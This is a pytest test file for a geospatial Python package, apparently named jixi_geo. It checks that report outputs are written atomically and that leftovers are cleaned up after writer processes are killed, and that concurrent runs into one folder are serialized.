    with pytest.raises(InputError, match=r"has not finished \(1 chunk\(s\) done\); run check_file again"):
        jg.read_results(out)
    monkeypatch.setattr(batch, "_write_part", real)
    jg.check_file(src, out, chunksize=10, progress=False)
    assert jg.read_results(out)["site_id"].tolist() == [f"S{i}" for i in range(30)]


# ------------------------------------------------------- killed runs: sets and stale temporaries

_KILLED_WRITER = textwrap.dedent("""
    import sys, time
    import geopandas as gpd
    from shapely import Point
    import jixi_geo as jg
    import jixi_geo.report as report
    res = jg.check_sites(gpd.GeoDataFrame({"site_id": ["NEW"]}, geometry=[Point(131.0, 45.3)], crs=4490))
    real = report.report_html
    def slow(*a, **k):
        print("writing html", flush=True)
        time.sleep(120)
        return real(*a, **k)
    report.report_html = slow
    jg.write_report(res, sys.argv[1])
""")


def test_run_killed_mid_report_leaves_old_set_then_next_run_cleans_up(tmp_path, results):
    out = tmp_path / "out"
    write_report(results, out, zones=_tiny_zones())
    old = _tree(out)
    proc = subprocess.Popen([sys.executable, "-c", _KILLED_WRITER, str(out)], stdout=subprocess.PIPE, text=True)
    assert proc.stdout.readline().strip() == "writing html"  # CSV and GeoJSON of the new set are written
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    hidden = [p.name for p in out.iterdir() if p.name.startswith(".")]
    assert len(hidden) == 1 and ".~jx" in hidden[0]  # the killed run's staging folder
    visible = {k: v for k, v in _tree(out).items() if not k.startswith(".")}
    assert visible == old  # the old set, whole
    verify_report(out)
    write_report(results.assign(site_id=["C", "D"]), out, zones=_tiny_zones())  # the next run
    assert sorted(p.name for p in out.iterdir()) == ["report.html", "results.csv", "results.geojson",
                                                    "results.manifest.json"]
    assert [r[0] for r in _csv_rows(out / "results.csv")[1:]] == ["C", "D"]
    verify_report(out)


def test_set_killed_while_moving_in_is_completed_by_the_next_write(tmp_path, results):
    """Kill after the commit point: the manifest is gone (readers refuse), the next write completes it."""
    out = tmp_path / "out"
    write_report(results, out, zones=_tiny_zones())
    old_csv = _sha(out / "results.csv")
    stage = out / f".results-set.~jx{_io._HOST}-{_dead_pid()}-0123abcd"
    stage.mkdir()
    new = {"results.csv": b"site_id\r\nNEW\r\n", "results.geojson": b'{"type": "FeatureCollection", '
                                                                    b'"features": []}',
           "report.html": b"<html>new</html>"}
    for name, data in new.items():
        (stage / name).write_bytes(data)
    (stage / "_commit.json").write_text(json.dumps({"set": "results", "files": {
        n: hashlib.sha256(d).hexdigest() for n, d in new.items()}}), encoding="utf-8")
    # the killed run had moved the CSV in and removed the manifest
    os.replace(stage / "results.csv", out / "results.csv")
    (out / "results.manifest.json").unlink()
    assert _sha(out / "results.csv") != old_csv
    with pytest.raises(InputError, match="has no results.manifest.json: this set of outputs was not written"):
        verify_report(out)
    assert _io.clean_stale(out) == [stage.name]
    assert {n: _sha(out / n) for n in new} == {n: hashlib.sha256(d).hexdigest() for n, d in new.items()}
    verify_report(out)
    assert not stage.exists()


def test_verify_report_names_a_file_from_another_run(tmp_path, results):
    write_report(results, tmp_path, zones=_tiny_zones())
    (tmp_path / "results.geojson").write_text("{}", encoding="utf-8")
    with pytest.raises(InputError, match=r"results\.geojson in .* differ from results\.manifest\.json"):
        verify_report(tmp_path)


def _dead_pid() -> int:
    p = subprocess.Popen([sys.executable, "-c", "pass"])
    p.wait()
    return p.pid


def test_stale_temporary_files_are_removed_by_the_next_write_only(tmp_path):
    target = tmp_path / "results.csv"
    dead = tmp_path / f".results.csv.~jx{_io._HOST}-{_dead_pid()}-deadbeef.csv"
    dead.write_bytes(b"x" * 1_000_000)  # a big leftover of a killed run
    journal = Path(f"{dead}-journal")
    journal.write_bytes(b"j")
    live = tmp_path / f".results.csv.~jx{_io._HOST}-{os.getppid()}-0badf00d.csv"  # a live process
    live.write_bytes(b"live")
    other_host = tmp_path / ".results.csv.~jx00000000-1-00000000.csv"
    other_host.write_bytes(b"other")
    legacy_old = tmp_path / ".results.csv.ab12_x9z.csv"
    legacy_old.write_bytes(b"old")
    os.utime(legacy_old, (time.time() - 7200, time.time() - 7200))
    legacy_new = tmp_path / ".results.csv.zz12_x9z.csv"
    legacy_new.write_bytes(b"new")
    user_file = tmp_path / ".results.csv.notes"
    user_file.write_bytes(b"mine")
    write_csv_excel(pd.DataFrame({"a": [1]}), target)
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        [target.name, live.name, other_host.name, legacy_new.name, user_file.name])
    os.utime(other_host, (time.time() - 2 * 86400, time.time() - 2 * 86400))
    write_csv_excel(pd.DataFrame({"a": [2]}), target)
    assert other_host.exists() is False and live.exists()


def test_killed_writer_leftover_is_cleaned_on_next_run(tmp_path):
    """A real process killed while writing a big file through atomic_path."""
    code = textwrap.dedent("""
        import sys, time
        from jixi_geo._io import atomic_path
        with atomic_path(sys.argv[1]) as tmp:
            with open(tmp, "wb") as f:
                f.write(b"x" * 5_000_000)
                f.flush()
                print("written", flush=True)
                time.sleep(120)
    """)
    target = tmp_path / "big.parquet"
    target.write_bytes(b"old")
    proc = subprocess.Popen([sys.executable, "-c", code, str(target)], stdout=subprocess.PIPE, text=True)
    assert proc.stdout.readline().strip() == "written"
    leftovers = [p for p in tmp_path.iterdir() if p.name.startswith(".big.parquet.~jx")]
    assert len(leftovers) == 1 and leftovers[0].stat().st_size == 5_000_000
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    assert target.read_bytes() == b"old" and leftovers[0].exists()
    _io.write_text_atomic(target, "new")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["big.parquet"]
    assert target.read_text() == "new"



def test_second_run_waits_while_the_first_moves_its_set_in(tmp_path, monkeypatch):
    """Two runs into one folder: the second cannot move files in while the first is doing so."""
    import threading

    out = tmp_path / "out"
    real_replace = os.replace
    paused, resume = threading.Event(), threading.Event()

    def replace(src, dst, *a, **k):
        # run A stops half-way through moving its set in (its CSV is in, its GeoJSON not yet)
        if threading.current_thread().name == "A" and Path(dst) == out / "results.geojson" \
                and not paused.is_set():
            paused.set()
            resume.wait(30)
        return real_replace(src, dst, *a, **k)

    monkeypatch.setattr(os, "replace", replace)

    def run(tag):
        res = jg.check_sites(gpd.GeoDataFrame({"site_id": [tag + "1", tag + "2"]},
                                              geometry=[Point(131.0, 45.3), Point(131.1, 45.3)], crs=4490))
        write_report(res, out, zones=_tiny_zones())

    a = threading.Thread(target=run, args=("A",), name="A")
    a.start()
    assert paused.wait(60)
    b = threading.Thread(target=run, args=("B",), name="B")
    b.start()
    b.join(3)
    blocked = b.is_alive()  # B has staged its files but waits for A's lock on the folder
    resume.set()
    a.join(60)
    b.join(60)
    assert blocked
    verify_report(out)  # one whole set: B's, moved in after A's
    assert [r[0] for r in _csv_rows(out / "results.csv")[1:]] == ["B1", "B2"]
    assert sorted(p.name for p in out.iterdir()) == ["report.html", "results.csv", "results.geojson",
                                                    "results.manifest.json"]
